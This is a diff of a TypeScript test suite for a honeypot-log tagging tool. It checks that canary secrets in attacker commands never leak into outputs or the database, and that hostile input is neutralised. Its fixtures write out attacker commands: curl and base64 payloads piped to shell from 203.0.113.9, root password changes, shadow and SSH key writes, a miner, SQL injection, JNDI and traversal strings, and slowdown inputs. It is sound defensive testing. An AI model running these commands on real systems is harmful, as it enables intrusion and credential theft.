@@ -25,9 +25,10 @@ afterAll(() => {
 })
 
 describe('a secret never leaves the telemetry', () => {
-  const canaries = new Map<string, string>()
+  const announced = new Map<string, string>()
+  const disguised = new Map<string, string>()
   /** A random secret that stands for what it was put in for. */
-  const secret = (where: string): string => {
+  const secretOf = (canaries: Map<string, string>) => (where: string) => {
     const canary = `Zq${randomBytes(9).toString('hex')}7`
     canaries.set(where, canary)
     return canary
@@ -37,11 +38,22 @@ describe('a secret never leaves the telemetry', () => {
   let databaseBytes: string
 
   beforeAll(async () => {
-    const commandFile = fileOf('commands.json', `${commandLog(secretCommands(secret))}${secretLogins(secret)}`)
+    const secret = secretOf(announced)
+    const commandLines = [...secretCommands(secret), ...disguisedSecretCommands(secretOf(disguised))]
+    const commandFile = fileOf('commands.json', `${commandLog(commandLines)}${secretLogins(secret)}`)
     const eventFile = fileOf('events.jsonl', secretRequests(secret))
     const database = join(folder, 'tags.db')
     const commands = await runCli(['tag', commandFile, '--output', 'jsonl', '--db', `sqlite:${database}`])
-    const requests = await runCli(['tag', eventFile, '--format', 'events', '--output', 'jsonl', '--db', `sqlite:${database}`])
+    const requests = await runCli([
+      'tag',
+      eventFile,
+      '--format',
+      'events',
+      '--output',
+      'jsonl',
+      '--db',
+      `sqlite:${database}`,
+    ])
     expect([commands.status, requests.status]).toEqual([0, 0])
     const rows = linesOf(commands.stdout + requests.stdout).map((line) => JSON.parse(line) as TagRow)
     tagCount = rows.length
@@ -63,25 +75,32 @@ describe('a secret never leaves the telemetry', () => {
 
   it('while the events that hold it are tagged', () => {
     expect(tagCount).toBeGreaterThan(40)
-    expect(canaries.size).toBeGreaterThan(40)
+    expect(announced.size).toBeGreaterThan(40)
   })
 
   it('in jsonl, CSV, summary, explanations of kept tags and messages', () => {
-    expect(leaks(everythingShown)).toEqual([])
+    expect(leaks(announced, everythingShown)).toEqual([])
   })
 
   it('in the bytes of the database', () => {
-    expect(leaks(databaseBytes)).toEqual([])
+    expect(leaks(announced, databaseBytes)).toEqual([])
+  })
+
+  it('in either where the command is disguised', () => {
+    expect(leaks(disguised, everythingShown)).toEqual([])
+    expect(leaks(disguised, databaseBytes)).toEqual([])
   })
 
   /** What the secrets that stand in a text were put in for; hashed and encoded forms count too. */
-  function leaks(text: string): string[] {
+  function leaks(canaries: ReadonlyMap<string, string>, text: string): string[] {
     const seen = text + hiddenTexts(text)
     const forms = (canary: string) => [
       canary,
       ...['md5', 'sha1', 'sha256'].map((algorithm) => createHash(algorithm).update(canary).digest('hex')),
     ]
-    return [...canaries].filter(([, canary]) => forms(canary).some((form) => seen.includes(form))).map(([where]) => where)
+    return [...canaries]
+      .filter(([, canary]) => forms(canary).some((form) => seen.includes(form)))
+      .map(([where]) => where)
   }
 })
 
@@ -145,9 +164,6 @@ function secretCommands(secret: (where: string) => string): string[] {
     `xmrig -o pool.example.org:3333 -u wallet -p ${secret('miner password')}`,
     `sh -c "echo root:${secret('chpasswd in sh -c')} | chpasswd"; uname -a`,
     `busybox sh -c 'mysql -p${secret('mysql in busybox sh')}'; uname -a`,
-    `echo ${Buffer.from(`echo root:${secret('chpasswd in base64')}|chpasswd`).toString('base64')} | base64 -d | sh`,
-    `echo ${Buffer.from(`curl -u a:${secret('curl in base64')} http://203.0.113.9/x`).toString('base64')} | base64 --decode | bash`,
-    `printf '${hexEscapes(`export TOKEN=${secret('token in hex escapes')}`)}' | sh; uname -a`,
     `echo '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU${secret('private key')}\n-----END OPENSSH PRIVATE KEY-----' > ~/.ssh/id_rsa`,
     `echo "-----BEGIN RSA PRIVATE KEY-----\\nMIIEpAIBAAKCAQEA${secret('private key, unfinished')}" > k; chmod 600 k; uname -a`,
     `echo 'eve:$6$saltsalt$${secret('crypt hash')}:19000:0:99999:7:::' >> /etc/shadow`,
@@ -164,14 +180,6 @@ function secretCommands(secret: (where: string) => string): string[] {
     `mytool --api-key=${secret('a key of an unknown program')}`,
     `mytool ftp://u:${secret('userinfo of an unknown program')}@host`,
     `mytool_token=${secret('a variable of an unknown program')}`,
-    // In disguise.
-    `ss""hpass -p ${secret('sshpass in disguise')} ssh root@203.0.113.7 uname -a; wget http://203.0.113.9/x`,
-    `e''cho root:${secret('chpasswd in disguise')} | chp\\asswd; uname -a`,
-    `/usr/bin/my\\sql -p${secret('mysql in disguise')} -e x; uname -a`,
-    `cu'r'l -u a:${secret('curl in disguise')} http://203.0.113.9/x | sh`,
-    `$(which mysql) -p${secret('mysql by which')} -e x; uname -a`,
-    `p=${secret('a short variable')}; echo root:$p | chpasswd; uname -a`,
-    `p=${secret('a variable of sshpass')}; sshpass -p $p ssh root@203.0.113.7; uname -a`,
     `curl -uadmin:${secret('curl -uX')} http://203.0.113.9/x.sh | sh`,
     `curl -su 'admin:${secret('curl -su')}' http://203.0.113.9/x.sh | sh`,
     `curl --proxy-user a:${secret('curl --proxy-user')} http://203.0.113.9/x.sh | sh`,
@@ -190,6 +198,22 @@ function secretCommands(secret: (where: string) => string): string[] {
   ]
 }
 
+/** Commands whose words say what is secret only once quotes, variables and encodings are undone. */
+function disguisedSecretCommands(secret: (where: string) => string): string[] {
+  return [
+    `echo ${Buffer.from(`echo root:${secret('chpasswd in base64')}|chpasswd`).toString('base64')} | base64 -d | sh`,
+    `echo ${Buffer.from(`curl -u a:${secret('curl in base64')} http://203.0.113.9/x`).toString('base64')} | base64 --decode | bash`,
+    `printf '${hexEscapes(`export TOKEN=${secret('token in hex escapes')}`)}' | sh; uname -a`,
+    `ss""hpass -p ${secret('sshpass in disguise')} ssh root@203.0.113.7 uname -a; wget http://203.0.113.9/x`,
+    `e''cho root:${secret('chpasswd in disguise')} | chp\\asswd; uname -a`,
+    `/usr/bin/my\\sql -p${secret('mysql in disguise')} -e x; uname -a`,
+    `cu'r'l -u a:${secret('curl in disguise')} http://203.0.113.9/x | sh`,
+    `$(which mysql) -p${secret('mysql by which')} -e x; uname -a`,
+    `p=${secret('a short variable')}; echo root:$p | chpasswd; uname -a`,
+    `p=${secret('a variable of sshpass')}; sshpass -p $p ssh root@203.0.113.7; uname -a`,
+  ]
+}
+
 function secretLogins(secret: (where: string) => string): string {
   const login = (fields: Readonly<Record<string, unknown>>) => `${cowrieLine({ input: undefined, ...fields })}\n`
   return (
@@ -197,10 +221,11 @@ function secretLogins(secret: (where: string) => string): string {
     login({ eventid: 'cowrie.login.success', username: 'root', password: secret('login') }) +
     login({ eventid: 'cowrie.command.chpasswd', username: 'root', password: secret('chpasswd event') }) +
     `${cowrieLine({ eventid: 'cowrie.command.input', realm: 'passwd', input: secret('typed at a prompt') })}\n` +
-    login({ eventid: 'cowrie.login.success', username: secret('password in the wrong field'), password: ['x'] }).replace(
-      '"password":["x"]',
-      `"password":["${secret('password of a wrong type')}"]`,
-    ) +
+    login({
+      eventid: 'cowrie.login.success',
+      username: secret('password in the wrong field'),
+      password: ['x'],
+    }).replace('"password":["x"]', `"password":["${secret('password of a wrong type')}"]`) +
     // A line that breaks off is quoted nowhere.
     login({ eventid: 'cowrie.login.success', username: 'root', password: secret('line that breaks off') }).slice(0, -30)
   )
@@ -227,7 +252,12 @@ function secretRequests(secret: (where: string) => string): string {
     { ...scan, query: `user=admin&password=${secret('password in a query')}&x=' or 1=1--` },
     { method: 'POST', path: '/login.php', body: `user=admin&password=${secret('password in a body')}' or '1'='1` },
     { method: 'POST', path: '/api', body: `{"password":"${secret('password in JSON')}","q":"${jndi}"}` },
-    { method: 'GET', path: '/x', raw_url: `http://admin:${secret('userinfo of a request')}@host/../../etc/passwd`, query: jndi },
+    {
+      method: 'GET',
+      path: '/x',
+      raw_url: `http://admin:${secret('userinfo of a request')}@host/../../etc/passwd`,
+      query: jndi,
+    },
   ]
     .map((payload, index) => event('http_request', payload, index))
     .concat(
@@ -301,7 +331,13 @@ describe('what attackers type is made safe where it is shown', () => {
       runCli(['explain', '--line', `${log}:1`]),
       runCli(['explain', '--line', `${log}:6`]),
       runCli(['explain', '--line', `${log}:7`]),
-      runCli(['explain', '--tag', rows.find((row) => row.session_id?.includes('\u202e'))!.uuid, '--db', `sqlite:${database}`]),
+      runCli([
+        'explain',
+        '--tag',
+        rows.find((row) => row.session_id?.includes('\u202e'))!.uuid,
+        '--db',
+        `sqlite:${database}`,
+      ]),
     ])
     for (const { stdout, stderr } of explanations) expect(stdout + stderr).not.toMatch(RAW)
   })
@@ -313,7 +349,9 @@ describe('what attackers type is made safe where it is shown', () => {
 
   it('in CSV, where no cell begins like a formula', async () => {
     const starts = ['=cmd|x!A1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '＝1', '＋1']
-    const lines = starts.map((start) => cowrieLine({ session: start, sensor: start, src_ip: start, input: `${start}; uname -a` }))
+    const lines = starts.map((start) =>
+      cowrieLine({ session: start, sensor: start, src_ip: start, input: `${start}; uname -a` }),
+    )
     const { stdout, status } = await runCli(['tag', fileOf('formulas.json', lines.join('\n')), '--output', 'csv'])
     expect(status).toBe(0)
     const cells = parseCsv(stdout).flat()
@@ -325,9 +363,20 @@ describe('what attackers type is made safe where it is shown', () => {
 describe('what attackers type stays what it is', () => {
   it('a command that looks like another event is a command', async () => {
     const login = cowrieLine({ input: undefined, eventid: 'cowrie.login.success', username: 'root', password: 'x' })
-    const download = cowrieLine({ input: undefined, eventid: 'cowrie.session.file_download', url: 'http://203.0.113.9/' })
+    const download = cowrieLine({
+      input: undefined,
+      eventid: 'cowrie.session.file_download',
+      url: 'http://203.0.113.9/',
+    })
     const eventLine = JSON.stringify({ source_kind: 'intel', source_ip: '192.0.2.1', payload: { provider: 'x' } })
-    const typed = [login, download, eventLine, `x\n${login}`, `x\r\n${eventLine}\r\n`, 'x\\n{"eventid":"cowrie.login.success"}']
+    const typed = [
+      login,
+      download,
+      eventLine,
+      `x\n${login}`,
+      `x\r\n${eventLine}\r\n`,
+      'x\\n{"eventid":"cowrie.login.success"}',
+    ]
     const commands = typed.map((text) => `uname -a # ${text}`)
     const result = await runCli(['tag', fileOf('look-alikes.json', commandLog(commands)), '--output', 'jsonl'])
     expect(result).toMatchObject({ status: 0, stderr: '' })
@@ -341,9 +390,17 @@ describe('what attackers type stays what it is', () => {
     const line = '{"eventid":"cowrie.client.size",'
     const twice = cowrieLine({ input: 'uname -a' }).replace('{', line)
     const escaped = cowrieLine({ input: 'uname -a', session: 'e1' }).replace('"eventid"', '"\\u0065ventid"')
-    const nested = cowrieLine({ input: 'uname -a', session: 'n1' }).replace('{', '{"x":{"eventid":"cowrie.client.size"},')
+    const nested = cowrieLine({ input: 'uname -a', session: 'n1' }).replace(
+      '{',
+      '{"x":{"eventid":"cowrie.client.size"},',
+    )
     const quoted = cowrieLine({ input: 'uname -a #","eventid":"cowrie.client.size","x":"', session: 'q1' })
-    const result = await runCli(['tag', fileOf('twice.json', [twice, escaped, nested, quoted].join('\n')), '--output', 'jsonl'])
+    const result = await runCli([
+      'tag',
+      fileOf('twice.json', [twice, escaped, nested, quoted].join('\n')),
+      '--output',
+      'jsonl',
+    ])
     const sessions = linesOf(result.stdout).map((text) => (JSON.parse(text) as TagRow).session_id)
     expect([...new Set(sessions)].sort()).toEqual(['a1b2c3d4e5f6', 'e1', 'n1', 'q1'])
   })
@@ -378,7 +435,12 @@ describe('lines made to be slow', () => {
     ['semicolons', ';'.repeat(8192)],
     ['assignments', 'A=B '.repeat(2048)],
     ['expansions', '$A${A}$A${A:-$A}'.repeat(512)],
-    ['doubling variables', Array.from({ length: 300 }, (_, n) => `a${n + 1}=$a${n}$a${n}`).join(';').concat(';eval $a300')],
+    [
+      'doubling variables',
+      Array.from({ length: 300 }, (_, n) => `a${n + 1}=$a${n}$a${n}`)
+        .join(';')
+        .concat(';eval $a300'),
+    ],
     ['redirections', '>'.repeat(8192)],
     ['here-documents', 'cat <<A\n'.repeat(1000)],
     ['base64 in base64', nestedBase64(6)],
@@ -396,7 +458,10 @@ describe('lines made to be slow', () => {
     ['surrogates', '\ud800'.repeat(8192)],
     ['combining marks', `e${'\u0301'.repeat(8000)}`],
     ['a sequence', 'seq 1 99999999 | xargs echo '.repeat(290)],
-    ['repetition', `python -c 'print("A"*99999999)' | sh; perl -e 'print "A" x 99999999' | sh`.repeat(90).slice(0, 8192)],
+    [
+      'repetition',
+      `python -c 'print("A"*99999999)' | sh; perl -e 'print "A" x 99999999' | sh`.repeat(90).slice(0, 8192),
+    ],
     ['arithmetic', '$(('.repeat(2700)],
     ['chpasswd', 'echo a:b|chpasswd '.repeat(430)],
     ['mysql', 'mysql -p'.repeat(1000)],
@@ -409,7 +474,10 @@ describe('lines made to be slow', () => {
       const tags = await pipeline.tag(commandEvent(command))
       for (const { evidence } of tags) expect(JSON.stringify(evidence).length).toBeLessThan(20_000)
     }
-    const log = fileOf('slow.json', `${commandLog(hostile.map(([, command]) => command))}${cowrieLine({ input: 'uname -a' })}\n`)
+    const log = fileOf(
+      'slow.json',
+      `${commandLog(hostile.map(([, command]) => command))}${cowrieLine({ input: 'uname -a' })}\n`,
+    )
     const { status, stdout, stderr } = await runCli(['tag', log, '--output', 'jsonl'], {
       env: { NODE_OPTIONS: '--max-old-space-size=96' },
     })
